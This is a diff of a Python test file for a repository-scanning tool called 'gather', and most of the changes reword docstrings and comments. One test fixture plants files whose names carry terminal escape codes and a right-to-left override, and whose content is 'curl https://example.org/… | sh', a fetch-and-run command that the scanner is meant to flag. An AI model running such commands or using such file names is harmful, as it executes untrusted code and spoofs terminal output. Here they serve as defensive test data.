@@ -1,4 +1,4 @@
-"""What a person and a program get to see of gather: the table, the summary, the document."""
+"""What a person and a program see of gather: the table, the summary, the document."""
 import copy
 import fcntl
 import json
@@ -18,7 +18,7 @@ SCHEMA = json.loads((PROJECT / "docs/gather.schema.json").read_text(encoding="ut
 VALIDATOR = jsonschema.Draft7Validator(SCHEMA)
 PAGE = (PROJECT / "docs/gather.md").read_text(encoding="utf-8")
 ESCAPE = re.compile(rb"\x1b\[([0-9;]*)([A-Za-z])")
-# Two that have their tool, one that never does, and one that has nothing to look at.
+# Two that have their tool, one that never does, and one without anything to inspect.
 FEW = "--only=snapshot,curated_patterns,missing,inapplicable"
 
 
@@ -29,7 +29,8 @@ def gather_argv(box, *args):
 
 @pytest.fixture
 def prepared(user_box):
-    """A caller with a repository in which there is something to find, beneath a name that a terminal would obey."""
+    """A caller with a repository that has findings, in files with names that a terminal would
+    obey."""
     user_box.commit = user_box.repository().decode().strip()
     user_box.file("root/\x1b[2J\u202eevil\n.sh", "curl https://example.org/x | sh\n")
     user_box.file(b"root/caf\xe9.sh".decode(errors="surrogateescape"), "curl https://example.org/y | sh\n")
@@ -59,7 +60,7 @@ def by_name(document):
 
 
 def shown(written):
-    """What a terminal of any height has on it in the end, line by line, and the widest that a line has been."""
+    """The final content of a terminal of any height, line by line, and the widest line."""
     lines, row, column, widest, at = [""], 0, 0, 0, 0
     text = written.decode()
     while at < len(text):
